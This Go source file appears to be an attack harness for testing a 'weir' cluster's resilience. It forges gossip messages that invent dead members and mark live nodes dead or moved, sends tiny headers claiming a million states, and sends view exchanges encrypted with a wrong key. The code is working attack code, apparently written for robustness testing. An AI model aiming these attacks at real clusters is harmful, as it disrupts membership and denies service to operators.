//go:build linux

package attack

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"strconv"
	"sync"
	"time"

	"github.com/weirlimit/weir/ring"
)

// The messages of gossip, as memberlist numbers them.
const (
	gossipAlive     = 4
	gossipDead      = 5
	gossipPushPull  = 6
	gossipCompound  = 7
	gossipEncrypted = 10
)

// field is one field of a message of gossip, which msgpack carries as a map.
type field struct {
	name  string
	value any // string, []byte, int or bool
}

// packed is a message of gossip: its number, and its fields.
func packed(number byte, fields ...field) []byte {
	b := []byte{number, 0x80 | byte(len(fields))}
	for _, f := range fields {
		b = appendText(b, f.name)
		switch v := f.value.(type) {
		case string:
			b = appendText(b, v)
		case []byte:
			b = appendText(b, string(v))
		case bool:
			b = append(b, 0xc2)
			if v {
				b[len(b)-1] = 0xc3
			}
		case int:
			b = append(b, 0xce)
			b = binary.BigEndian.AppendUint32(b, uint32(v))
		}
	}
	return b
}

// appendText appends a string, or bytes, whose lengths are written alike.
func appendText(b []byte, s string) []byte {
	if len(s) < 32 {
		return append(append(b, 0xa0|byte(len(s))), s...)
	}
	b = append(b, 0xda)
	b = binary.BigEndian.AppendUint16(b, uint16(len(s)))
	return append(b, s...)
}

// compound is several messages in one packet.
func compound(messages [][]byte) []byte {
	b := []byte{gossipCompound, byte(len(messages))}
	for _, m := range messages {
		b = binary.BigEndian.AppendUint16(b, uint16(len(m)))
	}
	for _, m := range messages {
		b = append(b, m...)
	}
	return b
}

// metadata is what a node of the cluster would tell of itself.
func metadata(c *Cluster, instance uint64, peerAddr string) []byte {
	b := []byte("weir1")
	add := func(tag byte, value []byte) {
		b = append(b, tag)
		b = binary.AppendUvarint(b, uint64(len(value)))
		b = append(b, value...)
	}
	add(1, []byte(c.ClusterName))
	add(2, binary.AppendUvarint(nil, ring.ConfigHash()))
	add(3, binary.AppendUvarint(nil, instance))
	add(4, binary.AppendUvarint(nil, uint64(time.Now().UnixMilli())))
	add(5, binary.AppendUvarint(nil, 1)) // active
	add(6, []byte(peerAddr))
	add(10, binary.AppendUvarint(nil, 1))
	return b
}

// alive says that a node is alive, at an address.
func alive(c *Cluster, name string, incarnation int, at *net.UDPAddr, peerAddr string) []byte {
	return packed(gossipAlive, field{"Incarnation", incarnation}, field{"Node", name},
		field{"Addr", []byte(at.IP.To4())}, field{"Port", at.Port},
		field{"Meta", metadata(c, uint64(1000+incarnation), peerAddr)}, field{"Vsn", []byte{1, 5, 2, 0, 0, 0}})
}

// dead says that a node is dead, or, where it says so itself, that it left.
func dead(name, from string, incarnation int) []byte {
	return packed(gossipDead, field{"Incarnation", incarnation}, field{"Node", name}, field{"From", from})
}

// invented is how many dead members are invented at a time.
const invented = 50

// forgedGossip sends every node packets that invent dead members, that have live ones
// leave or die, and that move them to another address.
func forgedGossip(ctx context.Context, c *Cluster, t *tally) error {
	ghost := &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 9}
	conns := make([]net.Conn, len(c.Targets))
	for i, target := range c.Targets {
		conn, err := new(net.Dialer).DialContext(context.WithoutCancel(ctx), "udp", target.Gossip) // which waits for nobody
		if err != nil {
			return err
		}
		defer func() { _ = conn.Close() }()
		conns[i] = conn
	}
	every(ctx, 500*time.Millisecond, func(n int) {
		var ghosts [][]byte
		for k := range invented {
			name := fmt.Sprintf("ghost-%d", n*invented+k)
			ghosts = append(ghosts, alive(c, name, 1, ghost, "127.0.0.1:9"), dead(name, "node-1", 1))
		}
		victim := c.Targets[n%len(c.Targets)]
		forged := [][]byte{
			compound(ghosts),
			dead(victim.Name, victim.Name, 1_000_000+n),
			dead(victim.Name, "node-1", 1_000_000+n),
			alive(c, victim.Name, 2_000_000+n, ghost, "127.0.0.1:9"),
		}
		for _, conn := range conns {
			_, err := conn.Write(forged[n%len(forged)])
			t.add(err)
		}
	})
	return nil
}

// gossipBombs opens streams of gossip, and says in a few bytes that millions of states
// follow.
func gossipBombs(ctx context.Context, c *Cluster, t *tally) error {
	bomb := packed(gossipPushPull, field{"Nodes", 1_000_000}, field{"UserStateLen", 0}, field{"Join", false})
	if len(bomb) > 64 {
		return errors.New("the bomb is " + strconv.Itoa(len(bomb)) + " bytes: it was to be small")
	}
	var attacking sync.WaitGroup
	for _, target := range c.Targets {
		attacking.Go(func() {
			every(ctx, time.Second, func(int) {
				ctx, cancel := context.WithTimeout(ctx, answerWithin)
				defer cancel()
				t.add(explode(ctx, target.Gossip, bomb))
			})
		})
	}
	attacking.Wait()
	return nil
}

// mostError is how many bytes an error of gossip has at most, in clear or encrypted. The
// view of a node has more.
const mostError = 256

// explode sends bytes to an address and waits for what comes back. It returns an error
// unless that is more than an error.
func explode(ctx context.Context, address string, what []byte) error {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", address)
	if err != nil {
		return err
	}
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	defer func() { _ = conn.Close() }()
	if _, err := conn.Write(what); err != nil {
		return err
	}
	n, err := io.Copy(io.Discard, conn)
	if n <= mostError {
		return errors.Join(fmt.Errorf("closed after an answer of %d bytes", n), err)
	}
	return nil
}

// state is one node in an exchange of views, as fields without a number.
func state(c *Cluster, name string, kind int) []byte {
	return packed(0, field{"Name", name}, field{"Addr", []byte{127, 0, 0, 1}}, field{"Port", 9}, field{"Incarnation", 1},
		field{"Meta", metadata(c, uint64(kind)+7, "127.0.0.1:9")}, field{"State", kind},
		field{"Vsn", []byte{1, 5, 2, 0, 0, 0}})[1:]
}

// exchanged is how many members are invented in one exchange of views.
const exchanged = 20

// forgedExchanges exchanges views over streams, in clear and encrypted by a wrong key,
// and tells of members that are alive and of members that are dead, which nobody has.
func forgedExchanges(ctx context.Context, c *Cluster, t *tally) error {
	var attacking sync.WaitGroup
	for _, target := range c.Targets {
		attacking.Go(func() {
			every(ctx, time.Second, func(n int) {
				m := packed(gossipPushPull, field{"Nodes", exchanged}, field{"UserStateLen", 0}, field{"Join", n%2 == 0})
				for k := range exchanged {
					m = append(m, state(c, fmt.Sprintf("spirit-%d", (n*exchanged+k)%2000), k%4)...)
				}
				if n%4 == 3 {
					m = locked(m)
				}
				ctx, cancel := context.WithTimeout(ctx, answerWithin)
				defer cancel()
				t.add(explode(ctx, target.Gossip, m))
			})
		})
	}
	attacking.Wait()
	return nil
}

// locked encrypts a stream of gossip by a key of its own.
func locked(m []byte) []byte {
	key := make([]byte, 16)
	_, _ = rand.Read(key) // it does not fail: it ends the program instead
	block, err := aes.NewCipher(key)
	if err != nil {
		panic(err) // not reached: the key has 16 bytes
	}
	gcm, err := cipher.NewGCM(block)
	if err != nil {
		panic(err) // not reached: AES has blocks of 16 bytes
	}
	sealed := append([]byte{1}, make([]byte, gcm.NonceSize())...)
	head := binary.BigEndian.AppendUint32([]byte{gossipEncrypted}, uint32(len(sealed)+len(m)+gcm.Overhead()))
	return append(head, gcm.Seal(sealed, sealed[1:], m, head)...)
}
